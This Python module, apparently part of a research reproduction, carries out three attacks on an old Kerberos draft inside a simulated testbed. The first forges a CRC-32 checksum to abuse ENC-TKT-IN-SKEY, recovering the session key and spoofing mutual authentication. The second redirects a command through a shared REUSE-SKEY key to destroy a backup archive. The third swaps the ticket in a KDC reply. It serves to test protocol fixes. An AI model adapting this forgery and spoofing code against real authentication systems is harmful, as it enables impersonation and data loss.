@@ -1,0 +1,341 @@
+"""Weak checksums and cut-and-paste: the Draft 3 appendix attacks.
+
+Three attacks from the appendix, all enabled by "weak checksums
+(encrypted but not collision-proof, and over public data)":
+
+* :func:`enc_tkt_in_skey_attack` — "the existence of the ENC-TKT-IN-SKEY
+  option leads to a major security breach, and in particular to the
+  complete negation of bidirectional authentication."  The adversary
+  rewrites a victim's in-flight TGS request: sets the option bit,
+  encloses the adversary's own TGT, and repairs the CRC-32 over the
+  cleartext fields by choosing the authorization-data bytes
+  (:func:`repro.crypto.crc.forge_field`).  The TGS then seals the new
+  service ticket under a session key the adversary knows, and mutual
+  authentication with the "server" can be spoofed end to end.
+
+* :func:`reuse_skey_redirect` — two tickets sharing one session key let
+  the adversary redirect a request from one service to the other:
+  "if, say, a file server and a backup server were invoked this way, an
+  attacker might redirect some requests to destroy archival copies of
+  files being edited."
+
+* :func:`ticket_substitution` — "the attacker substitutes a different
+  ticket for the legitimate one in key distribution replies from
+  Kerberos.  The encrypted part of such a message does not contain any
+  checksum to validate that the message was not tampered with."
+
+Fixes under test: collision-proof / keyed request checksums, the
+cname-match rule Draft 3 omitted, disabling the options, ticket
+checksums inside KDC replies, and per-session negotiated keys.
+"""
+
+from __future__ import annotations
+
+from typing import Dict, Optional
+
+from repro.attacks.base import AttackResult
+from repro.crypto import checksum as ck
+from repro.crypto.checksum import ChecksumType
+from repro.crypto.crc import ForgeryError, crc32, forge_field
+from repro.kerberos import messages
+from repro.kerberos.client import KerberosError
+from repro.kerberos.kdc import TGS_SERVICE, tgs_request_checksum_input
+from repro.kerberos.messages import (
+    AP_REP_ENC, AP_REQ, AS_REP, TGS_REP, TGS_REQ, SealError,
+    frame_ok, unframe,
+)
+from repro.kerberos.tickets import OPT_ENC_TKT_IN_SKEY, OPT_REUSE_SKEY, Authenticator, Ticket
+from repro.sim.network import Endpoint
+from repro.testbed import Testbed
+
+__all__ = [
+    "forge_tgs_request_checksum",
+    "enc_tkt_in_skey_attack",
+    "reuse_skey_redirect",
+    "ticket_substitution",
+]
+
+
+def forge_tgs_request_checksum(
+    config, values: Dict, target_checksum_input: bytes
+) -> Optional[Dict]:
+    """Choose authorization-data bytes so the modified request's CRC-32
+    matches the original's.
+
+    Returns the patched values, or ``None`` when the configured checksum
+    is not CRC-32 (nothing to forge against).
+    """
+    spec = ck.spec_for(config.tgs_req_checksum)
+    if spec.kind is not ChecksumType.CRC32:
+        return None
+    target = crc32(target_checksum_input)
+
+    patched = dict(values)
+    patched["authorization_data"] = b"\x00\x00\x00\x00"
+    new_input = tgs_request_checksum_input(patched)
+    # Locate the 4-byte authz field inside the joined checksum input:
+    # it sits right after server|options|additional_ticket| .
+    offset = (
+        len(patched["server"].encode()) + 1
+        + 8 + 1
+        + len(patched["additional_ticket"]) + 1
+    )
+    try:
+        forged_input = forge_field(new_input, offset, target)
+    except ForgeryError:
+        return None
+    patched["authorization_data"] = forged_input[offset:offset + 4]
+    assert crc32(tgs_request_checksum_input(patched)) == target
+    return patched
+
+
+def enc_tkt_in_skey_attack(
+    bed: Testbed,
+    service,
+    victim_user: str,
+    victim_password: str,
+    attacker_user: str,
+    attacker_password: str,
+    victim_host,
+    attacker_host,
+) -> AttackResult:
+    """The full bidirectional-authentication negation."""
+    config = bed.config
+
+    # The adversary is also a legitimate user with their own TGT — and,
+    # crucially, knowledge of that TGT's session key.
+    attacker_outcome = bed.login(attacker_user, attacker_password, attacker_host)
+    attacker_tgt = attacker_outcome.client.ccache.tgt()
+
+    state: Dict[str, bytes] = {}
+
+    def rewrite_tgs_request(message):
+        if message.dst.service != TGS_SERVICE:
+            return None
+        values = config.codec.decode(TGS_REQ, message.payload)
+        if values["server"] != str(service.principal):
+            return None
+        original_input = tgs_request_checksum_input(values)
+        values["options"] |= OPT_ENC_TKT_IN_SKEY
+        values["additional_ticket"] = attacker_tgt.sealed_ticket
+        patched = forge_tgs_request_checksum(config, values, original_input)
+        if patched is None:
+            state["forgery_failed"] = b"1"
+            return None
+        state["rewritten"] = b"1"
+        return config.codec.encode(TGS_REQ, patched)
+
+    bed.adversary.on_request(rewrite_tgs_request)
+    victim_outcome = bed.login(victim_user, victim_password, victim_host)
+    try:
+        victim_cred = victim_outcome.client.get_service_ticket(service.principal)
+    except KerberosError as exc:
+        bed.adversary.clear_taps()
+        return AttackResult(
+            "enc-tkt-in-skey", False,
+            f"TGS rejected the rewritten request: {exc}",
+            evidence={"rewritten": b"rewritten" in state or "rewritten" in state},
+        )
+    bed.adversary.clear_taps()
+
+    if "rewritten" not in state:
+        return AttackResult(
+            "enc-tkt-in-skey", False,
+            "could not rewrite the request "
+            + ("(checksum not forgeable)" if "forgery_failed" in state else ""),
+        )
+
+    # Can the adversary read the new service ticket?  It should be
+    # sealed in the attacker TGT's session key now.
+    try:
+        stolen = Ticket.unseal(
+            victim_cred.sealed_ticket, attacker_tgt.session_key, config
+        )
+    except SealError as exc:
+        return AttackResult(
+            "enc-tkt-in-skey", False,
+            f"ticket not decryptable with attacker key: {exc}",
+        )
+    key_recovered = stolen.session_key == victim_cred.session_key
+
+    # Now spoof the server end to end: hijack the endpoint and answer the
+    # victim's mutual-authentication dialog with the recovered key.
+    served_by_adversary = []
+
+    def fake_server(message) -> bytes:
+        request = config.codec.decode(AP_REQ, message.payload)
+        ticket = Ticket.unseal(
+            request["ticket"], attacker_tgt.session_key, config
+        )
+        authenticator = Authenticator.unseal(
+            request["authenticator"], ticket.session_key, config
+        )
+        served_by_adversary.append(str(authenticator.client))
+        reply = messages.seal(
+            config.codec.encode(AP_REP_ENC, {
+                "timestamp": authenticator.timestamp + 1,
+                "subkey": b"",
+                "seq": 0,
+                "nonce_reply": 0,
+                "session_id": 999,
+            }),
+            ticket.session_key, config, bed.rng.fork("fake-server"),
+        )
+        return frame_ok(reply)
+
+    original = bed.network.hijack_endpoint(
+        service.host.address, service.principal.name, fake_server
+    )
+    try:
+        victim_outcome.client.ap_exchange(
+            victim_cred, bed.endpoint(service), mutual=True
+        )
+        spoofed = True
+    except KerberosError:
+        spoofed = False
+    finally:
+        bed.network.hijack_endpoint(
+            service.host.address, service.principal.name, original
+        )
+
+    succeeded = key_recovered and spoofed and bool(served_by_adversary)
+    return AttackResult(
+        "enc-tkt-in-skey",
+        succeeded,
+        "session key recovered and bidirectional authentication spoofed; "
+        "the victim 'mutually authenticated' with the adversary"
+        if succeeded else "attack incomplete",
+        evidence={
+            "key_recovered": key_recovered,
+            "mutual_auth_spoofed": spoofed,
+            "victims_served": served_by_adversary,
+        },
+    )
+
+
+def reuse_skey_redirect(
+    bed: Testbed,
+    file_server,
+    backup_server,
+    victim_user: str,
+    victim_password: str,
+    victim_host,
+) -> AttackResult:
+    """Redirect a PURGE from the file server to the backup server."""
+    config = bed.config
+    outcome = bed.login(victim_user, victim_password, victim_host)
+
+    # The victim legitimately uses REUSE-SKEY for both services (the
+    # multicast-key-distribution use case the option was designed for).
+    try:
+        file_cred = outcome.client.get_service_ticket(
+            file_server.principal, options=OPT_REUSE_SKEY
+        )
+        backup_cred = outcome.client.get_service_ticket(
+            backup_server.principal, options=OPT_REUSE_SKEY
+        )
+    except KerberosError as exc:
+        return AttackResult(
+            "reuse-skey-redirect", False, f"KDC refused REUSE-SKEY: {exc}"
+        )
+    if file_cred.session_key != backup_cred.session_key:
+        return AttackResult(
+            "reuse-skey-redirect", False, "keys were not actually shared"
+        )
+
+    file_session = outcome.client.ap_exchange(file_cred, bed.endpoint(file_server))
+    backup_session = outcome.client.ap_exchange(
+        backup_cred, bed.endpoint(backup_server)
+    )
+    backup_session.call(b"ARCHIVE doc precious-archived-copy")
+    assert backup_server.archives.get((victim_user, "doc")) is not None
+
+    # Victim purges a *cache entry* on the file server; the adversary
+    # captures the encrypted command.
+    file_session.call(b"PURGE doc")
+    data_messages = bed.adversary.recorded(
+        service=file_server.principal.name + "-data", direction="request"
+    )
+    captured = data_messages[-1]
+
+    # Redirect: rewrite the cleartext session id to the backup session's
+    # and deliver to the backup server's data port.
+    redirected = (
+        backup_session.session_id.to_bytes(8, "big") + captured.payload[8:]
+    )
+    bed.network.inject(
+        captured.src_address,
+        Endpoint(backup_server.host.address, backup_server.principal.name + "-data"),
+        redirected,
+    )
+
+    destroyed = backup_server.archives.get((victim_user, "doc")) is None
+    return AttackResult(
+        "reuse-skey-redirect",
+        destroyed,
+        "archive destroyed by a command the victim sent to the file server"
+        if destroyed else
+        f"backup server did not execute the redirect "
+        f"({backup_server.rejection_reasons[-1:]})",
+        evidence={"shared_key": True, "archive_destroyed": destroyed},
+    )
+
+
+def ticket_substitution(
+    bed: Testbed,
+    service,
+    victim_user: str,
+    victim_password: str,
+    victim_host,
+) -> AttackResult:
+    """Swap the ticket in a KDC reply; see when anyone notices."""
+    config = bed.config
+    outcome = bed.login(victim_user, victim_password, victim_host)
+
+    # A decoy: any other sealed ticket the adversary has seen.  Reuse the
+    # victim's own TGT bytes — wrong service, wrong key, same opacity.
+    decoy = outcome.client.ccache.tgt().sealed_ticket
+
+    def substitute(message):
+        if message.dst.service != TGS_SERVICE:
+            return None
+        is_error, body = unframe(config, message.payload)
+        if is_error:
+            return None
+        values = config.codec.decode(TGS_REP, body)
+        values["ticket"] = decoy
+        return b"\x00" + config.codec.encode(TGS_REP, values)
+
+    bed.adversary.on_response(substitute)
+    detected_at_client = False
+    try:
+        cred = outcome.client.get_service_ticket(service.principal)
+    except KerberosError:
+        detected_at_client = True
+        cred = None
+    finally:
+        bed.adversary.clear_taps()
+
+    if detected_at_client:
+        return AttackResult(
+            "ticket-substitution", False,
+            "client detected the substitution immediately "
+            "(reply carries a ticket checksum)",
+            evidence={"detected_at_client": True},
+        )
+
+    # Undetected: the victim will fail later, at the service — a
+    # denial of service that looks like a server problem.
+    failed_at_service = False
+    try:
+        outcome.client.ap_exchange(cred, bed.endpoint(service))
+    except KerberosError:
+        failed_at_service = True
+    return AttackResult(
+        "ticket-substitution",
+        failed_at_service,
+        "substitution unnoticed until service time — silent denial of "
+        "service" if failed_at_service else "substitution had no effect",
+        evidence={"detected_at_client": False,
+                  "failed_at_service": failed_at_service},
+    )
